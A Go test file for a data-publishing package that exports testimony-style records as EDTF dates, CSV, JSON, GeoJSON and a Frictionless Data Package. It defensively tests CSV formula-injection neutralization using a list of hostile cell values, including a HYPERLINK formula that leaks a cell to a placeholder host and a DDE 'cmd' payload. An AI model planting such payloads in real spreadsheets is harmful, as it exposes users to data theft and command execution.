package publish

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"sori/internal/model"
)

var update = flag.Bool("update", false, "rewrite testdata/render from the code")

func TestEDTF(t *testing.T) {
	for in, want := range map[string]string{
		"1998-03-14":             "1998-03-14",
		"1998-03":                "1998-03",
		"1998":                   "1998",
		"1990s":                  "199X",
		"~1998":                  "1998~",
		"~1998-03":               "1998-03~",
		"~1998-03-14":            "1998-03-14~",
		"1997..1998":             "1997/1998",
		"1997-03..1997-05":       "1997-03/1997-05",
		"1997-12-30..1998-01-02": "1997-12-30/1998-01-02",
		"~1997..1999":            "1997~/1999~",
		"1990s..2000s":           "1990/2009",
		"~1990s":                 "1990~/1999~",
		"~1980s..1990s":          "1980~/1999~",
		"unknown":                "",
		"":                       "",
	} {
		d, err := model.ParseDate(in)
		if err != nil {
			t.Fatalf("ParseDate(%q): %v", in, err)
		}
		if got := EDTF(d); got != want {
			t.Errorf("EDTF(%q) = %q; want %q", in, got, want)
		}
		if got := edtfOf(in); got != want {
			t.Errorf("edtfOf(%q) = %q; want %q", in, got, want)
		}
	}
	// A string that is not sori's form passes through (already EDTF).
	for _, s := range []string{"1998~", "1997/1998", "199X"} {
		if got := edtfOf(s); got != s {
			t.Errorf("edtfOf(%q) = %q", s, got)
		}
	}
}

// edtfL1 is the subset of EDTF level 0 and 1 that EDTF writes: a date
// (year, month or day), "199X", or an interval of two dates, each
// optionally qualified "~".
var edtfL1 = regexp.MustCompile(`^(\d{4}(-\d{2}(-\d{2})?)?~?(/\d{4}(-\d{2}(-\d{2})?)?~?)?|\d{3}X)$`)

func FuzzEDTF(f *testing.F) {
	for _, s := range []string{"1998-03-14", "~1990s", "1990s..2000s", "~1997-03..1997-05", "unknown", "", "1997-12-30..1998-01-02", "x", "~"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		d, err := model.ParseDate(s)
		if err != nil {
			return
		}
		e := EDTF(d)
		if e == "" {
			if d.Precision != "unknown" {
				t.Fatalf("%q: known date gives no EDTF", s)
			}
			return
		}
		if !edtfL1.MatchString(e) {
			t.Fatalf("%q → %q: not the EDTF subset", s, e)
		}
		// The EDTF covers the same years as the date.
		from, to, _ := strings.Cut(e, "/")
		if to == "" {
			to = from
		}
		y0, _ := strconv.Atoi(from[:4])
		y1, _ := strconv.Atoi(to[:4])
		if strings.HasSuffix(from, "X") {
			y0, _ = strconv.Atoi(from[:3] + "0")
			y1 = y0 + 9
		}
		if y0 != d.Year() || y1 != d.LastYear() {
			t.Fatalf("%q → %q covers %d–%d; the date %d–%d", s, e, y0, y1, d.Year(), d.LastYear())
		}
		if d.Approx != strings.Contains(e, "~") {
			t.Fatalf("%q → %q: approximation lost or added", s, e)
		}
	})
}

// hostile are cell values a spreadsheet would evaluate.
var hostile = []string{`=HYPERLINK("http://x.invalid/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1,\"2\"\n3"}

func TestNeutralize(t *testing.T) {
	for _, s := range hostile {
		if got := Neutralize(s); got != "'"+s {
			t.Errorf("Neutralize(%q) = %q", s, got)
		}
	}
	for _, s := range []string{"", "1998", "박철민", "a=b", " =x", "'=x", "W-17"} {
		if got := Neutralize(s); got != s {
			t.Errorf("Neutralize(%q) = %q; want it unchanged", s, got)
		}
	}
}

// hostileDataset puts a hostile value in every free-text field.
func hostileDataset() *Dataset {
	h := func(i int) string { return hostile[i%len(hostile)] }
	lat, lon := 41.79, 129.78
	return &Dataset{Format: FormatName, Version: Version, Publication: "0123456789abcdef0123456789abcdef",
		Testimonies:  []Testimony{{ID: "testimony-1", Witness: "W-1", Title: h(0), Date: "~1998", Place: "north_hamgyong", Languages: []string{"ko", "en"}, Scope: "anonymized"}},
		Events:       []Event{{ID: "event-1", Title: h(1), Description: h(2), Date: "1990s", Places: []string{"chongjin", "south_hwanghae", "north_hamgyong"}, Violations: []string{"detention.arbitrary_arrest"}, Status: "unknown"}},
		Acts:         []Act{{ID: "act-1", Event: "event-1", Victim: "person-1", Violation: "detention.arbitrary_arrest", Date: "~1997..1999", Place: "north_hamgyong", StatusAtEnd: h(3)}},
		Involvements: []Involvement{{ID: "involvement-1", Act: "act-1", Perpetrator: "person-2", Degree: "direct"}},
		Persons: []Person{{ID: "person-1", Name: "Person 1", Protected: true, CountingUnit: "individual"},
			{ID: "person-2", Name: h(4), Names: []string{h(4), "-x"}, Sex: "m", BirthYear: 1960, Unit: h(5)}},
		Places: []Place{{ID: "chongjin", Level: "county", Name: "Chongjin", Ko: "청진", Lat: &lat, Lon: &lon},
			{ID: "south_hwanghae", Level: "province", Name: "South Hwanghae"}, {ID: "north_hamgyong", Level: "province", Name: "North Hamgyong", Ko: "함경북도"}},
		Information: []Information{{ID: "information-1", Source: "testimony-1", Event: "event-1", Connection: "direct"}},
		Transcripts: []Transcript{{ID: "transcript-1", Testimony: "testimony-1", Role: "original", Lang: "ko", Text: h(6), Redactions: 1}},
	}
}

func fileOf(t *testing.T, files []File, name string) []byte {
	t.Helper()
	for _, f := range files {
		if f.Name == name {
			return f.Data
		}
	}
	t.Fatalf("no %s among %d files", name, len(files))
	return nil
}

func TestCSVNeutralizedAndExcel(t *testing.T) {
	ds := hostileDataset()
	for _, excel := range []bool{false, true} {
		formats := []string{FormatCSV}
		if excel {
			formats, _ = ExcelCSV(formats)
		}
		files, _ := Render(ds, formats)
		n := 0
		for _, tb := range tables {
			data := fileOf(t, files, tb.name+".csv")
			if excel != bytes.HasPrefix(data, []byte(utf8BOM)) {
				t.Errorf("%s excel=%v: BOM %v", tb.name, excel, !excel)
			}
			lines := bytes.Count(data, []byte("\n"))
			if crlf := bytes.Count(data, []byte("\r\n")); excel && crlf != lines || !excel && crlf != 0 {
				t.Errorf("%s excel=%v: %d CRLF of %d line ends", tb.name, excel, crlf, lines)
			}
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM))))
			recs, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", tb.name, err)
			}
			if strings.Join(recs[0], ",") != strings.Join(headerOf(tb.cols), ",") {
				t.Errorf("%s header %v", tb.name, recs[0])
			}
			for _, rec := range recs {
				for _, c := range rec {
					n++
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s: cell %q is not neutralized", tb.name, c)
					}
				}
			}
		}
		if n < 60 {
			t.Errorf("only %d cells read", n)
		}
		// Every hostile value comes back behind its apostrophe.
		all := ""
		for _, tb := range tables {
			all += string(fileOf(t, files, tb.name+".csv"))
		}
		for _, h := range hostile[:4] {
			if !strings.Contains(all, "'"+strings.ReplaceAll(h, `"`, `""`)) {
				t.Errorf("%q is not in the CSV behind an apostrophe", h)
			}
		}
	}
}

func TestDataPackage(t *testing.T) {
	ds := hostileDataset()
	for _, formats := range [][]string{{FormatCSV}, {FormatJSON, FormatCSVExcel, FormatGeoJSON}} {
		files, manifest := Render(ds, formats)
		var dp map[string]any
		if err := json.Unmarshal(fileOf(t, files, DataPackageName), &dp); err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(manifest, []byte(`"name":"datapackage.json"`)) {
			t.Error("the manifest does not list datapackage.json")
		}
		checkDataPackage(t, dp, files)
	}
	files, _ := Render(ds, []string{FormatJSON, FormatGeoJSON})
	for _, f := range files {
		if f.Name == DataPackageName {
			t.Error("datapackage.json without CSV files")
		}
	}
}

// checkDataPackage checks a descriptor against the required properties of
// the Frictionless Data Package, Data Resource, Tabular Data Resource and
// Table Schema specifications (v1): resources is a non-empty array; every
// resource has a name matching ^[-a-z0-9._/]+$ and a path; names are
// unique; a tabular resource has a schema whose fields each have a name
// (unique) and a type of the spec's list, whose primaryKey and foreign
// keys name its fields and existing resources; and each path is a file of
// the publication.
func checkDataPackage(t *testing.T, dp map[string]any, files []File) {
	t.Helper()
	have := map[string][]byte{}
	for _, f := range files {
		have[f.Name] = f.Data
	}
	res, ok := dp["resources"].([]any)
	if !ok || len(res) == 0 {
		t.Fatalf("resources: %v", dp["resources"])
	}
	if name, _ := dp["name"].(string); !regexp.MustCompile(`^[-a-z0-9._/]+$`).MatchString(name) {
		t.Errorf("package name %q", name)
	}
	types := map[string]bool{"string": true, "number": true, "integer": true, "boolean": true, "object": true, "array": true, "date": true, "time": true,
		"datetime": true, "year": true, "yearmonth": true, "duration": true, "geopoint": true, "geojson": true, "any": true}
	names := map[string]map[string]bool{}
	for _, r := range res {
		r := r.(map[string]any)
		name, _ := r["name"].(string)
		if !regexp.MustCompile(`^[-a-z0-9._/]+$`).MatchString(name) || names[name] != nil {
			t.Errorf("resource name %q", name)
		}
		names[name] = map[string]bool{}
		path, _ := r["path"].(string)
		if _, ok := have[path]; !ok {
			t.Errorf("resource %s: path %q is not a file of the publication", name, path)
		}
		if r["profile"] != "tabular-data-resource" {
			continue
		}
		s, ok := r["schema"].(map[string]any)
		if !ok {
			t.Fatalf("resource %s: no schema", name)
		}
		fields, _ := s["fields"].([]any)
		if len(fields) == 0 {
			t.Fatalf("resource %s: no fields", name)
		}
		var header []string
		for _, f := range fields {
			f := f.(map[string]any)
			fn, _ := f["name"].(string)
			if fn == "" || names[name][fn] || !types[f["type"].(string)] {
				t.Errorf("resource %s: field %v", name, f)
			}
			names[name][fn] = true
			header = append(header, fn)
		}
		// The schema's fields are the CSV's header, in order.
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(have[path], []byte(utf8BOM)))).ReadAll()
		if err != nil || strings.Join(recs[0], ",") != strings.Join(header, ",") {
			t.Errorf("resource %s: header %v, schema %v (%v)", name, recs[0], header, err)
		}
		for _, k := range s["primaryKey"].([]any) {
			if !names[name][k.(string)] {
				t.Errorf("resource %s: primary key %v", name, k)
			}
		}
	}
	for _, r := range res {
		r := r.(map[string]any)
		s, _ := r["schema"].(map[string]any)
		fks, _ := s["foreignKeys"].([]any)
		for _, fk := range fks {
			fk := fk.(map[string]any)
			ref := fk["reference"].(map[string]any)
			target := names[ref["resource"].(string)]
			if target == nil || !target[ref["fields"].([]any)[0].(string)] || !names[r["name"].(string)][fk["fields"].([]any)[0].(string)] {
				t.Errorf("resource %s: foreign key %v", r["name"], fk)
			}
		}
	}
}

// TestRenderGolden renders the hostile dataset in every format and
// compares each file with testdata/render (-update rewrites them).
func TestRenderGolden(t *testing.T) {
	for _, v := range []struct {
		dir     string
		formats []string
	}{{"render", []string{FormatJSON, FormatCSV, FormatGeoJSON}}, {"render-excel", []string{FormatCSVExcel}}} {
		files, _ := Render(hostileDataset(), v.formats)
		dir := filepath.Join("testdata", v.dir)
		if *update {
			os.RemoveAll(dir)
			os.MkdirAll(dir, 0o755)
		}
		for _, f := range files {
			path := filepath.Join(dir, f.Name)
			if *update {
				if err := os.WriteFile(path, f.Data, 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (go test -run TestRenderGolden -update writes it)", err)
			}
			if !bytes.Equal(f.Data, want) {
				t.Errorf("%s/%s differs from the golden file; got:\n%s", v.dir, f.Name, f.Data)
			}
		}
		if got, _ := os.ReadDir(dir); !*update && len(got) != len(files) {
			t.Errorf("testdata/%s holds %d files, the rendering %d", v.dir, len(got), len(files))
		}
	}
}

// TestGeoJSONOgrinfo has GDAL read dataset.geojson: a valid GeoJSON
// FeatureCollection of points in WGS84, with every feature and the
// province's representative point. .ci/run installs gdal-bin; without it
// the test skips, and fails under SORI_TEST_DISALLOW_SKIP.
func TestGeoJSONOgrinfo(t *testing.T) {
	ogr, err := exec.LookPath("ogrinfo")
	if err != nil {
		if os.Getenv("SORI_TEST_DISALLOW_SKIP") != "" {
			t.Fatal("ogrinfo (gdal-bin) is not installed and SORI_TEST_DISALLOW_SKIP forbids skipping")
		}
		t.Skip("ogrinfo (gdal-bin) not installed")
	}
	files, _ := Render(hostileDataset(), []string{FormatGeoJSON})
	path := filepath.Join(t.TempDir(), "dataset.geojson")
	if err := os.WriteFile(path, fileOf(t, files, "dataset.geojson"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(ogr, "-ro", "-al", "-so", path).CombinedOutput()
	if err != nil {
		t.Fatalf("ogrinfo: %v\n%s", err, out)
	}
	s := string(out)
	// event-1 at chongjin, south_hwanghae and north_hamgyong, act-1 at
	// north_hamgyong: four features.
	for _, want := range []string{"Geometry: Point", "Feature Count: 4", "WGS 84", "point: String"} {
		if !strings.Contains(s, want) {
			t.Errorf("ogrinfo says no %q:\n%s", want, s)
		}
	}
	out, err = exec.Command(ogr, "-ro", "-al", "-q", "-where", "point = 'province'", path).CombinedOutput()
	if err != nil {
		t.Fatalf("ogrinfo: %v\n%s", err, out)
	}
	nh := provincePoints["north_hamgyong"]
	if want := "POINT (" + strconv.FormatFloat(nh.lon, 'f', -1, 64) + " " + strconv.FormatFloat(nh.lat, 'f', -1, 64) + ")"; strings.Count(string(out), want) != 2 {
		t.Errorf("want the province's point twice (%s):\n%s", want, out)
	}
}

func FuzzWriteCSV(f *testing.F) {
	for _, h := range append(hostile, "", "박철민", "a,b", "\"q\"", "\ufeffx", "x\r\ny") {
		f.Add(h, false)
		f.Add(h, true)
	}
	f.Fuzz(func(t *testing.T, cell string, excel bool) {
		var b bytes.Buffer
		if err := WriteCSV(&b, []string{"h", "cell"}, [][]string{{"x", cell}}, CSVOptions{Excel: excel}); err != nil {
			t.Fatal(err)
		}
		data := b.Bytes()
		if excel != bytes.HasPrefix(data, []byte(utf8BOM)) {
			t.Fatalf("BOM %v with excel=%v", !excel, excel)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(utf8BOM)))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q: %v %q", cell, err, recs)
		}
		// encoding/csv reads a quoted CR LF as LF; writing CRLF lines it
		// drops a CR inside a cell (a CR LF stays a line break).
		want := Neutralize(cell)
		if excel {
			want = strings.ReplaceAll(want, "\r", "")
		}
		if got := recs[1][1]; got != want && got != strings.ReplaceAll(want, "\r\n", "\n") {
			t.Fatalf("%q came back as %q; want %q", cell, got, want)
		}
		if c := recs[1][1]; c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Fatalf("%q is not neutralized", c)
		}
	})
}
